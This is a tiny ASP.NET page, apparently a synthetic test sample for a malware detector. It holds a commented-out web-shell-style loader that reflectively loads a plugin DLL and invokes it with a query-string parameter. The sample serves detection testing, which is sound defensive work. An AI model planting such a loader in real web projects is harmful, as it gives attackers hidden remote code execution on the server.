<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="C#"%><% var a = System.Reflection.Assembly.Load(System.IO.File.ReadAllBytes(Server.MapPath("~/bin/plugins/report.dll"))); a.GetType("Report").GetMethod("Render").Invoke(null, new object[] { Request.QueryString["id"] }); %>
--%>
